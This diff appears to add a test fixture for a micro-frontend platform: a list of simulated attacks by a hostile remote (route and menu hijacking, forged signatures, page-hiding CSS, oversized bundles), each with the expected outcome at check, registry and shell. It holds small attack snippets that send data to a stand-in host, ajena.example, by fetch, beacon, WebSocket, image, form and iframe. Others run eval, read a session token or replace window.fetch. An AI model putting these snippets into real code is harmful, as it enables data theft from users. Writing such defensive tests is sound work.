@@ -1,0 +1,365 @@
+/** Where a release of a hostile team is stopped, in the order in which it gets there. */
+export const places = ['check', 'registry', 'shell'] as const;
+
+export type Place = (typeof places)[number];
+
+/**
+ * What happens to an attack at a place: it is refused; it takes effect only inside the remote's own visit; or it passes,
+ * so that nothing stops it there.
+ */
+export type Outcome = 'refused' | 'contained' | 'passes';
+
+/** A file of a release, besides its entry. */
+export type Files = Readonly<Record<string, string>>;
+
+/** What a hostile team tries. It has a valid key, and may publish the remote `hostil` at `/hostil`. */
+export interface Attack {
+  readonly what: string;
+  /** Changes of the manifest. */
+  readonly manifest?: Readonly<Record<string, unknown>>;
+  readonly files?: Files;
+  /** Runs in the page after the remote was mounted, and returns how the browser answered. */
+  readonly attempt?: () => Promise<string>;
+  /** Who signs; the hostile team by default. */
+  readonly signedBy?: 'another team' | 'an invalid signature';
+  /** Matches the reason that check and registry give. */
+  readonly reason?: RegExp;
+  /** Outcomes; a place that is missing does not see the attack. */
+  readonly at: Readonly<Partial<Record<Place, Outcome>>>;
+}
+
+const everywhere = { check: 'refused', registry: 'refused', shell: 'refused' } as const;
+const onlyInPage = { check: 'passes', registry: 'passes', shell: 'refused' } as const;
+
+const own = { path: '/hostil', title: 'Hostil' };
+const entry = { to: '/hostil', label: 'Hostil', order: 900 };
+
+const claims: readonly Attack[] = [
+  ...['/payment', '/PAYMENT', '/payment/oferta', '/:any', '/', '/panel/:cuenta', '/admin-usuarios'].map(
+    (path) => ({
+      what: `takes the address ${path}`,
+      manifest: { routes: [own, { path, title: 'Hostil' }] },
+      reason: /address|belongs to/,
+      at: everywhere,
+    }),
+  ),
+  {
+    what: 'takes an address in escapes: /%70ayment',
+    manifest: { routes: [own, { path: '/%70ayment', title: 'Hostil' }] },
+    reason: /routes\.1\.path/,
+    at: everywhere,
+  },
+  {
+    what: 'is the landing page of all users',
+    manifest: { routes: [{ ...own, landing: {} }] },
+    reason: /landing/,
+    at: everywhere,
+  },
+  {
+    what: 'shows a screen without a session, such as a false sign-in',
+    manifest: { routes: [{ ...own, access: 'signed-out' }] },
+    reason: /signed-out/,
+    at: everywhere,
+  },
+  {
+    what: 'shows a screen without the frame of the platform',
+    manifest: { routes: [{ ...own, layout: 'bare' }] },
+    reason: /bare/,
+    at: everywhere,
+  },
+  {
+    what: 'adds a menu entry to a screen of another team',
+    manifest: { menu: [{ ...entry, to: '/payment' }] },
+    reason: /payment/,
+    at: everywhere,
+  },
+  {
+    what: 'marks its entry as current at a screen of another team',
+    manifest: { menu: [{ ...entry, alsoAt: ['/payment'] }] },
+    reason: /payment/,
+    at: everywhere,
+  },
+  {
+    what: 'puts its entry into the bar',
+    manifest: { menu: [{ ...entry, place: 'top' }] },
+    reason: /place top/,
+    at: everywhere,
+  },
+  {
+    what: 'puts its entry into the group of the administration',
+    manifest: { menu: [{ ...entry, group: 'Administración' }] },
+    reason: /group Administración/,
+    at: everywhere,
+  },
+  {
+    what: 'fills the menu with 30 entries',
+    manifest: { menu: Array.from({ length: 30 }, () => entry) },
+    reason: /menu entries 30/,
+    at: everywhere,
+  },
+  {
+    what: 'adds a palette command to a screen of another team',
+    manifest: { commands: [{ id: 'pagar', label: 'Pagar', to: '/payment' }] },
+    reason: /payment/,
+    at: everywhere,
+  },
+  {
+    what: 'makes every page larger with 3,000 menu entries',
+    manifest: { menu: Array.from({ length: 3000 }, () => entry) },
+    reason: /menu/,
+    at: everywhere,
+  },
+];
+
+const signatures: readonly Attack[] = [
+  {
+    what: 'is signed by another team',
+    signedBy: 'another team',
+    reason: /signature_refused/,
+    at: { registry: 'refused', shell: 'refused' },
+  },
+  {
+    what: 'has no valid signature',
+    signedBy: 'an invalid signature',
+    reason: /signature_refused/,
+    at: { registry: 'refused', shell: 'refused' },
+  },
+];
+
+const versions: readonly Attack[] = [
+  {
+    what: 'needs React 18',
+    manifest: { shared: { react: '^18.0.0' } },
+    reason: /needs react \^18/,
+    at: everywhere,
+  },
+  {
+    what: 'needs a newer minor version of the design system',
+    manifest: { shared: { '@parque/ui': '^1.900.0' } },
+    reason: /needs @parque\/ui \^1\.900/,
+    at: everywhere,
+  },
+  {
+    what: 'needs a host API that does not exist',
+    manifest: { hostApi: '^9.0.0' },
+    reason: /needs host API \^9/,
+    at: everywhere,
+  },
+];
+
+const styles: readonly Attack[] = [
+  {
+    what: 'hides the whole page by `*{display:none!important}`',
+    files: { 'a.css': '*{display:none!important}' },
+    reason: /the selector \* would style/,
+    at: { check: 'refused', registry: 'refused', shell: 'contained' },
+  },
+  {
+    what: 'covers the whole page from the body',
+    files: { 'a.css': 'body::after{content:"";position:fixed;inset:0;z-index:9999}' },
+    reason: /body::after/,
+    at: { check: 'refused', registry: 'refused', shell: 'contained' },
+  },
+  {
+    what: 'styles the classes of another remote',
+    files: { 'a.css': '[class*="catalogue-"]{display:none!important}' },
+    reason: /catalogue-/,
+    at: { check: 'refused', registry: 'refused', shell: 'contained' },
+  },
+  {
+    what: 'replaces an animation of another remote',
+    files: { 'a.css': '@keyframes girar{to{opacity:0}}' },
+    reason: /animation girar/,
+    at: { check: 'refused', registry: 'refused', shell: 'contained' },
+  },
+  {
+    what: 'imports a style sheet without a signature',
+    files: { 'a.css': '@import "/pictures/x.css";' },
+    reason: /imports another/,
+    at: everywhere,
+  },
+];
+
+const sizes: readonly Attack[] = [
+  {
+    what: 'has a script of 15 MB',
+    files: { 'a.js': 'a'.repeat(15_000_000) },
+    reason: /15000\.\d kB/,
+    at: { check: 'refused', registry: 'refused' },
+  },
+  {
+    what: 'has 200 files',
+    files: Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`${i}.js`, '1'])),
+    reason: /20\d files/,
+    at: { check: 'refused', registry: 'refused' },
+  },
+  {
+    what: 'publishes a picture that pages would paint unverified',
+    files: { 'a.svg': '<svg/>' },
+    reason: /a\.svg would not be loaded/,
+    at: { check: 'refused', registry: 'refused' },
+  },
+  {
+    what: 'has a worker that imports code',
+    files: { 'worker.1.js': "import('/shell/main.js')" },
+    reason: /imports code/,
+    at: everywhere,
+  },
+];
+
+/** Code that its check cannot see: what counts is what the page does. */
+const code: readonly Attack[] = [
+  {
+    what: 'sends data away by fetch',
+    attempt: () =>
+      fetch('https://ajena.example/?dato=1').then(
+        () => 'passes',
+        () => 'refused',
+      ),
+    at: onlyInPage,
+  },
+  {
+    what: 'sends data away by a beacon',
+    attempt: async () =>
+      new Promise((done) => {
+        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+        navigator.sendBeacon('https://ajena.example/', '1');
+      }),
+    at: onlyInPage,
+  },
+  {
+    what: 'sends data away by a WebSocket',
+    attempt: async () =>
+      new Promise((done) => {
+        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+        new WebSocket('wss://ajena.example/').onopen = () => done('passes');
+      }),
+    at: onlyInPage,
+  },
+  {
+    what: 'sends data away in the address of a picture',
+    attempt: async () =>
+      new Promise((done) => {
+        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+        new Image().src = 'https://ajena.example/?dato=1';
+      }),
+    at: onlyInPage,
+  },
+  {
+    what: 'sends data away by a form',
+    attempt: async () =>
+      new Promise((done) => {
+        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+        const form = document.createElement('form');
+        form.action = 'https://ajena.example/';
+        document.body.append(form);
+        form.submit();
+      }),
+    at: onlyInPage,
+  },
+  {
+    what: 'shows a frame of another origin',
+    attempt: async () =>
+      new Promise((done) => {
+        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+        const frame = document.createElement('iframe');
+        frame.src = 'https://ajena.example/';
+        document.body.append(frame);
+      }),
+    at: onlyInPage,
+  },
+  {
+    what: 'runs text as code by eval',
+    attempt: async () => {
+      try {
+        return String((0, eval)('"passes"'));
+      } catch {
+        return 'refused';
+      }
+    },
+    at: onlyInPage,
+  },
+  {
+    what: 'inserts HTML from text',
+    attempt: async () => {
+      try {
+        document.createElement('div').innerHTML = '<b>x</b>';
+        return 'passes';
+      } catch {
+        return 'refused';
+      }
+    },
+    at: onlyInPage,
+  },
+  {
+    what: 'loads a script that no release lists',
+    attempt: async () => {
+      try {
+        document.createElement('script').src = '/remotes/hostil/9.9.9/otro.js';
+        return 'passes';
+      } catch {
+        return 'refused';
+      }
+    },
+    at: onlyInPage,
+  },
+  {
+    what: 'imports a module that no release lists',
+    attempt: async () => {
+      const address: string = '/remotes/hostil/9.9.9/otro.js';
+      return import(address).then(
+        () => 'passes',
+        () => 'refused',
+      );
+    },
+    at: onlyInPage,
+  },
+  {
+    what: 'starts a worker from text',
+    attempt: async () => {
+      try {
+        new Worker(URL.createObjectURL(new Blob(['1'])));
+        return 'passes';
+      } catch {
+        return 'refused';
+      }
+    },
+    at: onlyInPage,
+  },
+  {
+    what: 'loads a module into an audio worklet',
+    attempt: async () => {
+      try {
+        await new AudioContext().audioWorklet.addModule('/shell/x.js');
+        return 'passes';
+      } catch (error) {
+        return error instanceof TypeError ? 'refused' : 'passes';
+      }
+    },
+    reason: /calls addModule/,
+    at: everywhere,
+  },
+  {
+    what: 'reads the session of the user',
+    attempt: async () => (sessionStorage.getItem('token') ? 'passes' : 'refused'),
+    at: { check: 'passes', registry: 'passes', shell: 'passes' },
+  },
+  {
+    what: 'replaces fetch for the whole page',
+    attempt: async () => {
+      const replaced = () => Promise.reject(new Error('replaced'));
+      window.fetch = replaced;
+      return window.fetch === replaced ? 'passes' : 'refused';
+    },
+    at: { check: 'passes', registry: 'passes', shell: 'passes' },
+  },
+];
+
+export const attacks: readonly Attack[] = [
+  ...claims,
+  ...signatures,
+  ...versions,
+  ...styles,
+  ...sizes,
+  ...code,
+];
